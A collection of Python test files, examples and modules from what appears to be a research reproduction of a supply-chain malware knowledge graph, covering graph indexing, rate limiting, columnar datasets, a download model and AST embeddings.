    result = run_collection(small_world, plan=FaultPlan.heavy(11))
    assert result.stats.degraded  # the plan actually bit
    assert_roundtrip(result.dataset, tmp_path)
