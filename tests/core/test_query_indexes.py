"""GraphIndexes construction, enrichment, and the per-graph cache."""

from __future__ import annotations

import threading

import pytest

from repro.core.edges import node_id
from repro.core.graph import EdgeType, PropertyGraph
from repro.core.groups import GroupKind
from repro.core.malgraph import MalGraph
from repro.core.query import build_indexes, graph_indexes


@pytest.fixture()
def graph() -> PropertyGraph:
    g = PropertyGraph()
    for i in range(6):
        g.add_node(f"n{i}", name=f"pkg{i}", ecosystem="npm" if i % 2 else "pypi")
    g.add_edge("n0", "n1", EdgeType.SIMILAR)
    g.add_edge("n1", "n2", EdgeType.SIMILAR)
    g.add_clique(["n2", "n3", "n4"], EdgeType.COEXISTING)
    g.add_edge("n4", "n5", EdgeType.DEPENDENCY)
    return g


@pytest.fixture(scope="module")
def malgraph(small_dataset) -> MalGraph:
    return MalGraph.build(small_dataset)


# ---------------------------------------------------------------------------
# Adjacency
# ---------------------------------------------------------------------------

def test_adjacency_matches_graph_neighbors(graph):
    indexes = build_indexes(graph)
    for edge_type in EdgeType:
        for node in graph.touched_nodes(edge_type):
            assert set(indexes.neighbors(node, (edge_type,))) == graph.neighbors(
                node, edge_type
            )


def test_cliques_are_expanded(graph):
    indexes = build_indexes(graph)
    assert indexes.neighbors("n3", (EdgeType.COEXISTING,)) == ["n2", "n4"]


def test_neighbors_merge_multiple_types_sorted(graph):
    indexes = build_indexes(graph)
    merged = indexes.neighbors(
        "n4", (EdgeType.COEXISTING, EdgeType.DEPENDENCY)
    )
    assert merged == ["n2", "n3", "n5"]


def test_symmetric_types_ignore_direction(graph):
    indexes = build_indexes(graph)
    for direction in ("any", "out", "in"):
        assert indexes.neighbors("n1", (EdgeType.SIMILAR,), direction) == [
            "n0",
            "n2",
        ]


# ---------------------------------------------------------------------------
# Attribute indexes
# ---------------------------------------------------------------------------

def test_by_attr_buckets(graph):
    indexes = build_indexes(graph)
    assert indexes.lookup("name", "pkg3") == ("n3",)
    assert indexes.lookup("ecosystem", "npm") == ("n1", "n3", "n5")
    assert indexes.lookup("name", "nope") == ()
    assert indexes.candidate_count("ecosystem", "pypi") == 3
    assert indexes.candidate_count("release_day", 1) is None  # unindexed


def test_node_attrs_include_id(graph):
    indexes = build_indexes(graph)
    assert indexes.node_attrs("n0")["id"] == "n0"
    assert indexes.node_attrs("n0")["name"] == "pkg0"
    assert indexes.node_attrs("ghost") == {}


# ---------------------------------------------------------------------------
# MalGraph enrichment
# ---------------------------------------------------------------------------

def test_directed_dependency_maps(malgraph):
    indexes = malgraph.query_indexes()
    assert malgraph.dependency_edges, "small world should have dependencies"
    entry, target = malgraph.dependency_edges[0]
    u, v = node_id(entry.package), node_id(target.package)
    assert v in indexes.neighbors(u, (EdgeType.DEPENDENCY,), "out")
    assert u in indexes.neighbors(v, (EdgeType.DEPENDENCY,), "in")
    # the undirected view still sees the pair both ways
    assert v in indexes.neighbors(u, (EdgeType.DEPENDENCY,), "any")
    assert u in indexes.neighbors(v, (EdgeType.DEPENDENCY,), "any")


def test_dataset_attrs_are_indexed(malgraph):
    indexes = malgraph.query_indexes()
    entry = next(e for e in malgraph.dataset.entries if e.campaign_id)
    node = node_id(entry.package)
    held = indexes.node_attrs(node)
    assert held["campaign"] == entry.campaign_id
    assert held["actor"] == entry.actor
    assert held["family"] == entry.behavior_key
    assert node in indexes.lookup("campaign", entry.campaign_id)


def test_group_ids_match_intel_index_convention(malgraph):
    indexes = malgraph.query_indexes()
    for kind in GroupKind:
        groups = malgraph.groups(kind)
        for i, group in enumerate(groups):
            group_id = f"{kind.value}-{i:04d}"
            members = indexes.group_members[group_id]
            assert members == tuple(
                sorted(node_id(m.package) for m in group.members)
            )
            for member in members:
                assert group_id in indexes.groups_of[member]
                assert (
                    indexes.node_attrs(member)[kind.value.lower()] == group_id
                )


# ---------------------------------------------------------------------------
# Cache behaviour
# ---------------------------------------------------------------------------

def test_cache_returns_same_object(graph):
    assert graph_indexes(graph) is graph_indexes(graph)


def test_mutation_invalidates_cache(graph):
    before = graph_indexes(graph)
    graph.add_node("n6", name="pkg6")
    after = graph_indexes(graph)
    assert after is not before
    assert "n6" in after.nodes
    assert after.version > before.version


def test_plain_and_enriched_are_cached_separately(malgraph):
    plain = graph_indexes(malgraph.graph)
    enriched = graph_indexes(malgraph.graph, malgraph)
    assert plain is not enriched
    assert not plain.enriched and enriched.enriched
    # both stay cached side by side
    assert graph_indexes(malgraph.graph) is plain
    assert malgraph.query_indexes() is enriched


def test_concurrent_first_build_happens_once(graph, monkeypatch):
    from repro.core.query import indexes as indexes_module

    calls = []
    real_build = indexes_module.build_indexes

    def counting_build(*args, **kwargs):
        calls.append(1)
        return real_build(*args, **kwargs)

    monkeypatch.setattr(indexes_module, "build_indexes", counting_build)

    results = []
    barrier = threading.Barrier(8)

    def worker():
        barrier.wait()
        results.append(graph_indexes(graph))

    threads = [threading.Thread(target=worker) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(calls) == 1
    assert all(r is results[0] for r in results)


# ---------------------------------------------------------------------------
# Delta patching: apply_delta journals patches instead of forcing rebuilds
# ---------------------------------------------------------------------------

def _assert_same_indexes(held, fresh):
    assert held.nodes == fresh.nodes
    assert held.attrs == fresh.attrs
    assert held.out == fresh.out
    assert held.into == fresh.into
    assert held.any_dir == fresh.any_dir
    assert held.by_attr == fresh.by_attr
    assert held.group_members == fresh.group_members
    assert held.groups_of == fresh.groups_of
    assert held.version == fresh.version
    assert held.enriched == fresh.enriched


def _delta_world():
    from repro.core.malgraph import MalGraph as _MalGraph

    from tests.core.helpers import dataset, entry, report

    shared = "def payload():\n    return 'twin'\n"
    alpha = entry("alpha", code=shared)
    twin = entry("twin", code=shared)
    beta = entry("beta", code="def b():\n    return 2\n", dependencies=("alpha",))
    ds = dataset([alpha, twin, beta], [report("r-0", [alpha.package, beta.package])])
    return _MalGraph.build(ds), alpha, twin, beta


def test_apply_delta_patches_cached_indexes_without_rebuild(monkeypatch):
    from repro.core.delta import GraphEvent
    from repro.core.query import indexes as indexes_module

    from tests.core.helpers import entry

    malgraph, alpha, twin, beta = _delta_world()
    shared = "def payload():\n    return 'twin'\n"
    plain_before = graph_indexes(malgraph.graph)
    enriched_before = malgraph.query_indexes()

    events = [
        GraphEvent.package_added(entry("late", code=shared, downloads=4)),
        GraphEvent.package_removed(twin.package),
    ]
    malgraph.apply_delta(events, in_place=True)

    # the refresh must go through the patch chain, not a full rebuild
    def failing_build(*args, **kwargs):
        raise AssertionError("patch chain should have avoided build_indexes")

    monkeypatch.setattr(indexes_module, "build_indexes", failing_build)
    plain_after = graph_indexes(malgraph.graph)
    enriched_after = malgraph.query_indexes()
    monkeypatch.undo()

    assert plain_after is not plain_before
    assert enriched_after is not enriched_before
    _assert_same_indexes(plain_after, build_indexes(malgraph.graph))
    _assert_same_indexes(
        enriched_after, build_indexes(malgraph.graph, malgraph)
    )


def test_stale_index_reads_after_apply_delta_are_impossible():
    """Regression: every surgical path must leave the cached indexes
    either patched or invalidated — a read can never see pre-delta data."""
    from repro.core.delta import GraphEvent

    from tests.core.helpers import entry

    malgraph, alpha, twin, beta = _delta_world()
    indexes = malgraph.query_indexes()
    twin_node = node_id(twin.package)
    assert twin_node in indexes.nodes

    events = [
        GraphEvent.package_removed(twin.package),
        GraphEvent.package_detected(
            entry("beta", code="def b():\n    return 2\n",
                  dependencies=("alpha",), downloads=77)
        ),
    ]
    malgraph.apply_delta(events, in_place=True)

    refreshed = malgraph.query_indexes()
    assert refreshed is not indexes
    assert twin_node not in refreshed.nodes
    assert refreshed.node_attrs(node_id(beta.package))["downloads"] == 77
    # a detect-only follow-up (no structural change) must still invalidate
    events = [
        GraphEvent.package_detected(
            entry("beta", code="def b():\n    return 2\n",
                  dependencies=("alpha",), downloads=78)
        )
    ]
    malgraph.apply_delta(events, in_place=True)
    again = malgraph.query_indexes()
    assert again is not refreshed
    assert again.node_attrs(node_id(beta.package))["downloads"] == 78


def test_direct_mutation_falls_back_to_full_rebuild():
    """A mutation outside the delta engine breaks the patch chain; the
    cache must rebuild rather than mis-apply patches."""
    malgraph, alpha, twin, beta = _delta_world()
    before = graph_indexes(malgraph.graph)
    malgraph.graph.add_node("rogue", name="rogue-pkg")
    after = graph_indexes(malgraph.graph)
    assert after is not before
    assert "rogue" in after.nodes
    _assert_same_indexes(after, build_indexes(malgraph.graph))
