"""Token-bucket rate limiting: unit books and the HTTP 429 contract."""

from __future__ import annotations

import json
import threading
import urllib.error
import urllib.request

import pytest

from repro.service.cache import EnrichmentService
from repro.service.ratelimit import RateLimiter, TokenBucket
from repro.service.server import create_server, server_address


class FakeClock:
    """Deterministic monotonic clock the tests advance by hand."""

    def __init__(self):
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


# -- unit: TokenBucket -------------------------------------------------------


def test_bucket_starts_with_a_full_burst():
    bucket = TokenBucket(rate=1.0, burst=3.0, now=0.0)
    assert [bucket.try_acquire(0.0) for _ in range(3)] == [0.0, 0.0, 0.0]
    assert bucket.try_acquire(0.0) == pytest.approx(1.0)  # 1 token / 1 rps


def test_bucket_refills_continuously_and_caps_at_burst():
    bucket = TokenBucket(rate=2.0, burst=4.0, now=0.0)
    for _ in range(4):
        bucket.try_acquire(0.0)
    assert bucket.try_acquire(0.25) > 0.0  # 0.5 tokens: not yet whole
    assert bucket.try_acquire(0.75) == 0.0  # 1.5 tokens by now
    # an idle hour refills to burst, not beyond
    bucket.try_acquire(3600.0)
    assert bucket.tokens == pytest.approx(4.0 - 1.0)


def test_bucket_reports_time_until_next_token():
    bucket = TokenBucket(rate=0.5, burst=1.0, now=0.0)
    assert bucket.try_acquire(0.0) == 0.0
    wait = bucket.try_acquire(0.0)
    assert wait == pytest.approx(2.0)  # a whole token at 0.5 rps


# -- unit: RateLimiter -------------------------------------------------------


def test_limiter_rejects_bad_configuration():
    with pytest.raises(ValueError):
        RateLimiter(0.0)
    with pytest.raises(ValueError):
        RateLimiter(-1.0)
    with pytest.raises(ValueError):
        RateLimiter(5.0, burst=0)


def test_limiter_burst_defaults_to_rate_with_floor_of_one():
    assert RateLimiter(8.0).burst == 8.0
    assert RateLimiter(0.25).burst == 1.0


def test_limiter_budgets_clients_independently():
    clock = FakeClock()
    limiter = RateLimiter(1.0, burst=1, clock=clock)
    assert limiter.check("scanner-a") is None
    assert limiter.check("scanner-a") is not None  # a is out of budget
    assert limiter.check("scanner-b") is None  # b still has its burst


def test_limiter_books_are_exact():
    clock = FakeClock()
    limiter = RateLimiter(1.0, burst=2, clock=clock)
    checks = 0
    for client in ("a", "b"):
        for _ in range(5):
            limiter.check(client)
            checks += 1
    stats = limiter.stats()
    assert stats["allowed"] + stats["rejected"] == checks
    assert stats["allowed"] == 4  # burst of 2 per client, no time passed
    assert stats["clients"] == 2


def test_limiter_recovers_after_waiting_out_the_retry():
    clock = FakeClock()
    limiter = RateLimiter(2.0, burst=1, clock=clock)
    assert limiter.check("c") is None
    wait = limiter.check("c")
    assert wait == pytest.approx(0.5)
    clock.advance(wait)
    assert limiter.check("c") is None  # Retry-After was honest


def test_limiter_prunes_stalest_clients_at_the_cap():
    clock = FakeClock()
    limiter = RateLimiter(1.0, burst=1, clock=clock, max_clients=4)
    for i in range(4):
        limiter.check(f"old-{i}")
        clock.advance(1.0)
    limiter.check("newcomer")  # over the cap: stalest half dropped
    stats = limiter.stats()
    assert stats["clients"] == 3  # 4 - 2 pruned + 1 new
    assert "old-0" not in limiter._buckets
    assert "newcomer" in limiter._buckets


def test_limiter_check_is_thread_safe_and_exact():
    clock = FakeClock()
    limiter = RateLimiter(1.0, burst=5, clock=clock)
    outcomes = []
    lock = threading.Lock()

    def hammer(client: str):
        for _ in range(50):
            verdict = limiter.check(client)
            with lock:
                outcomes.append(verdict)

    threads = [
        threading.Thread(target=hammer, args=(f"client-{i % 3}",))
        for i in range(6)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    stats = limiter.stats()
    assert stats["allowed"] + stats["rejected"] == len(outcomes) == 300
    # frozen clock: each of the 3 clients gets exactly its burst
    assert stats["allowed"] == 3 * 5


# -- HTTP: the 429 contract --------------------------------------------------


@pytest.fixture()
def limited(engine):
    """A live server allowing a burst of 2 and near-zero refill."""
    service = EnrichmentService(engine, capacity=64)
    server = create_server(service, port=0, rate_limit=0.001, rate_burst=2)
    host, port = server_address(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://{host}:{port}"
    server.shutdown()
    server.server_close()


def _get(url: str, client: str | None = None):
    headers = {"X-Client-Id": client} if client else {}
    request = urllib.request.Request(url, headers=headers)
    with urllib.request.urlopen(request, timeout=10) as response:
        return response.status, json.load(response)


def test_over_budget_client_gets_429_with_retry_after(limited, small_dataset):
    name = small_dataset.entries[0].package.name
    url = f"{limited}/v1/enrich?name={name}"
    assert _get(url, client="burster")[0] == 200
    assert _get(url, client="burster")[0] == 200
    with pytest.raises(urllib.error.HTTPError) as failure:
        _get(url, client="burster")
    assert failure.value.code == 429
    assert int(failure.value.headers["Retry-After"]) >= 1
    body = json.load(failure.value)
    assert body["error"] == "rate limit exceeded"
    assert body["retry_after_seconds"] >= 1


def test_clients_are_budgeted_by_identity_header(limited):
    url = f"{limited}/v1/stats"
    for client in ("alpha", "beta", "gamma"):
        status, _ = _get(url, client=client)
        assert status == 200  # each identity brings its own burst


def test_healthz_is_never_rate_limited(limited):
    for _ in range(6):  # far past the burst of 2
        status, _ = _get(f"{limited}/v1/healthz", client="prober")
        assert status == 200


def test_rejections_surface_in_metrics(limited):
    url = f"{limited}/v1/stats"
    seen_429 = 0
    for _ in range(4):
        try:
            _get(url, client="greedy")
        except urllib.error.HTTPError as failure:
            assert failure.code == 429
            seen_429 += 1
    assert seen_429 == 2  # burst of 2, then refusals
    status, metrics = _get(f"{limited}/v1/metrics", client="observer")
    assert status == 200
    books = metrics["rate_limiter"]
    assert books["rejected"] >= 2
    assert books["allowed"] >= 3
    assert books["rate_per_client"] == 0.001
    assert books["burst"] == 2.0
    stats_row = metrics["endpoints"]["/v1/stats"]
    assert stats_row["status"]["429"] == 2  # JSON keys are strings


def test_metrics_has_no_rate_limiter_section_when_disabled(engine):
    service = EnrichmentService(engine, capacity=16)
    server = create_server(service, port=0)  # no rate_limit
    host, port = server_address(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        status, metrics = _get(f"http://{host}:{port}/v1/metrics")
        assert status == 200
        assert set(metrics) == {"endpoints", "total_requests"}
    finally:
        server.shutdown()
        server.server_close()
