"""The columnar artifact tier of :class:`PipelineRuntime`.

A disk hit memory-maps the arrays and elides the entire upstream chain
(no world simulation, no JSONL parse) — the defining property this file
pins down, along with the degraded-corpus quarantine the collection
stage already enforces.
"""

from __future__ import annotations

from repro.core.columnar import ColumnarMalwareDataset
from repro.pipeline import ArtifactStore, PipelineReport, PipelineRuntime
from repro.world import WorldConfig

from tests.core.test_columnar_roundtrip import canonical
from tests.pipeline.test_runtime import SMALL, runtime_for


def _trace(runtime: PipelineRuntime):
    return [(r.stage, r.status, r.source) for r in runtime.report.runs]


def test_columnar_builds_then_memory_hits(tmp_path):
    runtime = runtime_for(tmp_path, disk_enabled=False)
    first = runtime.columnar()
    assert isinstance(first, ColumnarMalwareDataset)
    assert runtime.columnar() is first
    # second call: memory hit, upstream elided as zero-cost hits
    assert _trace(runtime)[-3:] == [
        ("columnar", "hit", "memory"),
        ("collection", "hit", "elided"),
        ("world", "hit", "elided"),
    ]


def test_disk_hit_mmaps_in_and_elides_the_world(tmp_path):
    warm = runtime_for(tmp_path)
    built = warm.columnar()

    cold = runtime_for(tmp_path)  # fresh store + report, same cache dir
    loaded = cold.columnar()
    assert _trace(cold) == [
        ("columnar", "hit", "disk"),
        ("collection", "hit", "elided"),
        ("world", "hit", "elided"),
    ]
    assert loaded is not built
    # the mmapped facade hydrates to the very same bytes
    assert canonical(loaded) == canonical(built)


def test_columnar_hydration_matches_collection_dataset(tmp_path):
    runtime = runtime_for(tmp_path, disk_enabled=False)
    assert canonical(runtime.columnar()) == canonical(runtime.dataset())


def test_columnar_fingerprint_tracks_collection_not_similarity(tmp_path):
    from repro.core.similarity import SimilarityConfig

    default = runtime_for(tmp_path, disk_enabled=False)
    tweaked = PipelineRuntime(
        SMALL,
        SimilarityConfig(min_similarity=None),
        store=ArtifactStore(disk_enabled=False),
    )
    assert default.fingerprint("columnar") == tweaked.fingerprint("columnar")
    other_world = PipelineRuntime(
        WorldConfig(seed=4, scale=0.05), store=ArtifactStore(disk_enabled=False)
    )
    assert default.fingerprint("columnar") != other_world.fingerprint("columnar")


def test_degraded_corpus_is_not_cached(tmp_path):
    """Under heavy chaos without allow_degraded, the columnar artifact
    resolves for the call but never lands in the cache (same quarantine
    as the collection stage)."""
    from repro.reliability import FaultPlan

    store = ArtifactStore(cache_dir=tmp_path / "cache", disk_enabled=True)
    runtime = PipelineRuntime(
        SMALL,
        store=store,
        report=PipelineReport(),
        fault_plan=FaultPlan.heavy(11),
    )
    held = runtime.columnar()
    assert runtime.collection().stats.degraded  # the plan actually bit
    fp = runtime.fingerprint("columnar")
    assert store.get_memory("columnar", fp) is None
    assert not store.has_disk("columnar", fp)
    # ... but the quarantined facade still hydrates
    assert held.entries or held.reports
