"""MALGRAPH save/load round-trips against a live dataset."""

from __future__ import annotations

import json

import pytest

from repro.analysis import compute_graph_stats
from repro.collection.records import DatasetError
from repro.core.groups import GroupKind
from repro.core.malgraph import MalGraph
from repro.io.malgraphs import (
    MALGRAPH_FILENAME,
    load_malgraph,
    malgraph_from_dict,
    malgraph_to_dict,
    save_malgraph,
)


@pytest.fixture(scope="module")
def small_malgraph(small_dataset):
    return MalGraph.build(small_dataset)


@pytest.fixture()
def reloaded(small_malgraph, small_dataset, tmp_path):
    save_malgraph(small_malgraph, tmp_path)
    return load_malgraph(tmp_path, small_dataset)


def group_ids(graph, kind):
    return [
        sorted(str(m.package) for m in group.members)
        for group in graph.groups(kind)
    ]


def test_round_trip_preserves_graph_structure(small_malgraph, reloaded):
    original = small_malgraph.graph
    restored = reloaded.graph
    assert sorted(original.nodes()) == sorted(restored.nodes())
    assert original.to_dict() == restored.to_dict()


def test_round_trip_preserves_every_group_kind(small_malgraph, reloaded):
    for kind in GroupKind:
        assert group_ids(reloaded, kind) == group_ids(small_malgraph, kind), kind


def test_round_trip_preserves_table2(small_malgraph, reloaded):
    assert (
        compute_graph_stats(reloaded).render()
        == compute_graph_stats(small_malgraph).render()
    )


def test_round_trip_preserves_similarity_labels(small_malgraph, reloaded):
    assert reloaded.similar.clustering.labels.tolist() == (
        small_malgraph.similar.clustering.labels.tolist()
    )
    assert reloaded.similar.clustering.kmeans_k == (
        small_malgraph.similar.clustering.kmeans_k
    )


def test_group_members_resolve_to_dataset_entries(reloaded, small_dataset):
    entries = set(map(id, small_dataset.entries))
    for kind in GroupKind:
        for group in reloaded.groups(kind):
            assert all(id(m) in entries for m in group.members), kind


def test_unknown_node_id_raises_dataset_error(small_malgraph, small_dataset):
    raw = malgraph_to_dict(small_malgraph)
    raw["similar"]["embedded"][0] = "pypi:never-collected@9.9.9"
    with pytest.raises(DatasetError):
        malgraph_from_dict(raw, small_dataset)


def test_save_writes_one_json_document(small_malgraph, tmp_path):
    save_malgraph(small_malgraph, tmp_path)
    raw = json.loads((tmp_path / MALGRAPH_FILENAME).read_text())
    assert set(raw) >= {"graph", "similar", "duplicated_groups"}
