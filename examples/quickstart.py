#!/usr/bin/env python
"""Quickstart: simulate an OSS supply-chain world, collect the malware
dataset, build MALGRAPH, and print the headline statistics.

This walks the three pipeline stages behind every experiment in the
paper:

1. ``build_world``   — multi-year registry/actor/intel simulation
2. ``collect``       — the Section II collection pipeline
3. ``MalGraph.build``— the Section III knowledge graph

Run::

    python examples/quickstart.py
"""

from __future__ import annotations

from repro.core.groups import GroupKind
from repro.core.malgraph import MalGraph
from repro.world import WorldConfig, build_world, collect


def main() -> None:
    # A reduced-scale world keeps the example fast (~seconds). Use
    # scale=1.0 (the default) to regenerate the full paper tables.
    config = WorldConfig(seed=7, scale=0.4)
    print(f"Building world (seed={config.seed}, scale={config.scale}) ...")
    world = build_world(config)
    n_releases = sum(len(c.releases) for c in world.corpus.campaigns)
    print(f"  {len(world.corpus.campaigns)} attack campaigns, "
          f"{n_releases} malicious release attempts, "
          f"{len(world.corpus.benign)} benign packages")

    print("Running the Section II collection pipeline ...")
    result = collect(world)
    dataset = result.dataset
    available = len(dataset.available_entries())
    print(f"  collected {len(dataset.entries)} records "
          f"({available} with artifacts, "
          f"{len(dataset.entries) - available} names-only)")
    print(f"  recovered {result.stats.recovery.recovered} artifacts "
          f"from mirror registries")
    print(f"  {len(dataset.reports)} security reports crawled")

    print("Building MALGRAPH ...")
    graph = MalGraph.build(dataset)
    for kind in GroupKind:
        groups = graph.groups(kind)
        sizes = [len(g.members) for g in groups]
        avg = sum(sizes) / len(sizes) if sizes else 0.0
        print(f"  {kind.value:>4}: {len(groups):4d} groups "
              f"(avg size {avg:.1f})")

    # Inspect one similarity group: a family of near-identical malware.
    sg = max(graph.groups(GroupKind.SG), key=lambda g: len(g.members))
    print(f"\nLargest similarity group ({len(sg.members)} members):")
    for entry in sg.members[:8]:
        pkg = entry.package
        print(f"  {pkg.ecosystem}:{pkg.name}@{pkg.version} "
              f"(released day {entry.release_day}, "
              f"{entry.downloads} downloads)")
    if len(sg.members) > 8:
        print(f"  ... and {len(sg.members) - 8} more")


if __name__ == "__main__":
    main()
