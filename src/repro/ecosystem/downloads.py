"""Download model.

Fig. 11 of the paper shows the download distribution of malicious release
attempts: the majority see 0-1 downloads (the registry removes them within
days), a minority see ~10-40, and a few outliers reach millions because a
malicious version was attached to an already-popular package, inheriting
its download stream.

The model is intentionally simple: each package has a *popularity class*
setting its daily download rate, and the total downloads of a release are
the sum of per-day Poisson draws over its live period.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Dict

import numpy as np


class Popularity(str, Enum):
    """How visible a package is to organic installers."""

    OBSCURE = "obscure"  # a fresh name nobody searches for
    NOTICED = "noticed"  # typosquats of known names pick up strays
    POPULAR = "popular"  # an established package with a real user base


#: Mean organic downloads per live day, per popularity class.
DAILY_RATE: Dict[Popularity, float] = {
    Popularity.OBSCURE: 0.12,
    Popularity.NOTICED: 7.0,
    Popularity.POPULAR: 40_000.0,
}


@dataclass
class DownloadModel:
    """Draws download counts for package release attempts."""

    rates: Dict[Popularity, float] = None

    def __post_init__(self) -> None:
        if self.rates is None:
            self.rates = dict(DAILY_RATE)

    def daily_downloads(
        self, popularity: Popularity, rng: np.random.Generator
    ) -> int:
        """Downloads accrued in one live day."""
        return int(rng.poisson(self.rates[popularity]))

    def total_downloads(
        self, live_days: int, popularity: Popularity, rng: np.random.Generator
    ) -> int:
        """Total downloads over a live period of ``live_days`` days.

        Equivalent in distribution to summing :meth:`daily_downloads`
        ``live_days`` times (Poisson additivity), but a single draw.
        A release that is published and removed the same day still gets a
        fraction of a day of exposure.
        """
        exposure = max(float(live_days), 0.25)
        return int(rng.poisson(self.rates[popularity] * exposure))
