"""merge_columnar == merge_datasets, property-tested.

The contract from :mod:`repro.core.columnar.merge`: hydrating the
columnar merge of two corpora is byte-identical (canonical
serialisation) to the dataclass merge of their hydrated forms.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings

from repro.collection.merge import merge_datasets
from repro.errors import DatasetError
from repro.collection.records import MalwareDataset
from repro.core.columnar import (
    ColumnarDataset,
    ColumnarMalwareDataset,
    load_columnar,
    merge_columnar,
    save_columnar,
)
from repro.io.datasets import entry_to_dict, report_to_dict

from tests.core.test_columnar_roundtrip import canonical, datasets


def _hydrate(col: ColumnarDataset) -> MalwareDataset:
    return ColumnarMalwareDataset(col).to_dataset()


@given(datasets(), datasets())
@settings(max_examples=50, deadline=None)
def test_columnar_merge_matches_dataclass_merge(a, b):
    col_a = ColumnarDataset.from_dataset(a)
    col_b = ColumnarDataset.from_dataset(b)
    try:
        expected = merge_datasets(a, b)
    except DatasetError:
        # conflicting artifacts for one key: both paths must refuse
        with pytest.raises(DatasetError):
            merge_columnar(col_a, col_b)
        return
    merged = merge_columnar(col_a, col_b)
    assert canonical(_hydrate(merged)) == canonical(expected)


@given(datasets(), datasets())
@settings(max_examples=20, deadline=None)
def test_columnar_merge_from_mmapped_base(a, b):
    """Merging into a pool loaded from disk (frozen strings probed, not
    decoded wholesale) produces the same bytes as the in-memory merge."""
    import tempfile
    from pathlib import Path

    try:
        expected = merge_datasets(a, b)
    except DatasetError:
        return  # conflict semantics covered by the in-memory test
    with tempfile.TemporaryDirectory() as tmp:
        save_columnar(ColumnarDataset.from_dataset(a), Path(tmp) / "base")
        base = load_columnar(Path(tmp) / "base", mmap=True)
        merged = merge_columnar(base, ColumnarDataset.from_dataset(b))
        assert canonical(_hydrate(merged)) == canonical(expected)


def test_empty_new_returns_base_itself():
    base = ColumnarDataset.from_dataset(
        MalwareDataset(entries=[], reports=[])
    )
    empty = ColumnarDataset.from_dataset(MalwareDataset(entries=[], reports=[]))
    assert merge_columnar(base, empty) is base


def test_small_collection_merge_parity(small_dataset):
    """The canonical corpus merged with a shifted copy of itself agrees
    across both implementations (row order included)."""
    half = MalwareDataset(
        entries=list(small_dataset.entries[::2]),
        reports=list(small_dataset.reports[::2]),
    )
    expected = merge_datasets(small_dataset, half)
    merged = merge_columnar(
        ColumnarDataset.from_dataset(small_dataset),
        ColumnarDataset.from_dataset(half),
    )
    assert [entry_to_dict(e) for e in expected.entries] == [
        entry_to_dict(merged.entry_at(i)) for i in range(merged.n_packages)
    ]
    assert [report_to_dict(r) for r in expected.reports] == [
        report_to_dict(merged.report_at(i)) for i in range(merged.n_reports)
    ]
