"""AST code embeddings (the OpenAI-embedding substitute).

Section III-A embeds each package's AST with OpenAI's
``text-embedding-3-large``. Offline we use a deterministic feature-hashed
embedding with the property the pipeline actually relies on: *similar
source code maps to nearby vectors*. Features are:

* **structural n-grams** — parent→child AST node-type digrams and
  DFS-path trigrams, capturing program shape independent of naming;
* **lexical tokens** — identifier names, attribute names, call names and
  short string constants, capturing the campaign-specific vocabulary
  (hosts, tokens, helper names) that distinguishes one actor's code base
  from another's use of the same general pattern.

Each feature is hashed into a fixed-dimension signed bucket (feature
hashing), TF-weighted and L2-normalised, so cosine similarity is a dot
product.

The embedder is the hot path of ``MalGraph.build``, so it is built to
scale: one fused AST pass collects both feature families, the
feature→bucket mapping is memoised process-wide (the same digrams repeat
across every package), batches deduplicate by SHA256 before any work,
and :meth:`AstEmbedder.embed_many` can fan the unique artifacts out over
a process pool — the resulting matrix is byte-identical to the serial
path because each vector is a pure function of the artifact bytes.
"""

from __future__ import annotations

import ast
import hashlib
import json
import math
import os
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass
from typing import (
    Dict,
    Iterable,
    List,
    MutableMapping,
    Optional,
    Sequence,
    Tuple,
)

import numpy as np

from repro.ecosystem.package import PackageArtifact
from repro.errors import EmbeddingError

#: The paper reports an embedding dimension of 3,072 with 8,000-token
#: inputs; 256 hashed dimensions give the same clustering behaviour at a
#: fraction of the cost.
DEFAULT_DIM = 256

#: Version of the feature-extraction + hashing scheme. Folded into
#: :meth:`AstEmbedder.fingerprint`, so persisted embedding-cache entries
#: from an older scheme are invalidated rather than misread. v2: blake2b
#: bucket hash (MD5 raises on FIPS-enabled hosts) and the fused
#: single-pass AST walk.
FEATURE_VERSION = 2

#: Below this many *unique* artifacts a process pool costs more than it
#: saves; :meth:`AstEmbedder.embed_many` stays serial regardless of the
#: requested ``jobs``.
PARALLEL_MIN_BATCH = 32

#: Upper bound on the memoised feature→(bucket, sign) table per
#: dimension. Repetition, not vocabulary, is what the memo exploits;
#: past the bound new features are hashed without being remembered.
_BUCKET_TABLE_LIMIT = 1 << 20

_BUCKET_TABLES: Dict[int, Dict[str, Tuple[int, float]]] = {}


def resolve_jobs(jobs: int) -> int:
    """Worker count for a ``jobs`` knob: ``0`` (or negative) = one per core."""
    if jobs <= 0:
        return max(1, os.cpu_count() or 1)
    return jobs


def _bucket(feature: str, dim: int) -> Tuple[int, float]:
    """Feature -> (bucket index, sign) via a stable, memoised hash."""
    table = _BUCKET_TABLES.setdefault(dim, {})
    entry = table.get(feature)
    if entry is None:
        digest = hashlib.blake2b(feature.encode("utf-8"), digest_size=5).digest()
        entry = (int.from_bytes(digest[:4], "big") % dim, 1.0 if digest[4] & 1 else -1.0)
        if len(table) < _BUCKET_TABLE_LIMIT:
            table[feature] = entry
    return entry


def iter_structural_features(tree: ast.AST) -> Iterable[str]:
    """Parent->child digrams and grandparent paths over node types."""
    stack: List[tuple] = [(tree, None, None)]
    while stack:
        node, parent, grandparent = stack.pop()
        name = type(node).__name__
        if parent is not None:
            yield f"st2:{parent}>{name}"
        if grandparent is not None:
            yield f"st3:{grandparent}>{parent}>{name}"
        for child in ast.iter_child_nodes(node):
            stack.append((child, name, parent))


def iter_lexical_features(tree: ast.AST) -> Iterable[str]:
    """Identifier / attribute / literal vocabulary of the code."""
    for node in ast.walk(tree):
        yield from _lexical_of(node)


def _lexical_of(node: ast.AST) -> Iterable[str]:
    """Lexical features contributed by one AST node."""
    if isinstance(node, ast.Name):
        yield f"id:{node.id}"
    elif isinstance(node, ast.Attribute):
        yield f"attr:{node.attr}"
    elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
        yield f"def:{node.name}"
    elif isinstance(node, ast.arg):
